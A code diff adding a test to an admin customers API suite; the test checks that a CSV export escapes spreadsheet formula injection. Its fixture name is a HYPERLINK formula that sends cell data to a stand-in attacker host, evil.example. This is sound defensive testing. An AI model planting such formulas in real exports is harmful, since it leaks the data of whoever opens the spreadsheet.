@@ -111,4 +111,21 @@ describe('GET /api/admin/customers', () => {
     expect((await get('/api/admin/customers', s.cook)).statusCode).toBe(403);
     expect((await get('/api/admin/customers?cursor=zzz')).statusCode).toBe(400);
   });
+
+  it('keeps a name that looks like a formula as text in the export (CSV injection)', async () => {
+    const { tag, customerId } = await customerWithOrders();
+    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+    await s.ctx.db
+      .update(customers)
+      .set({ firstName: evil, lastName: tag, phone: '+447700900555' })
+      .where(eq(customers.id, customerId));
+    const csv = await get(`/api/admin/customers?q=${tag}&format=csv`, s.owner);
+    expect(csv.statusCode).toBe(200);
+    const row = csv.body.split('\n')[1]!;
+    expect(row.startsWith(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"") ${tag}",`)).toBe(
+      true,
+    );
+    // A phone number is a plain number: no apostrophe before its +.
+    expect(row).toContain(',+447700900555,');
+  });
 });
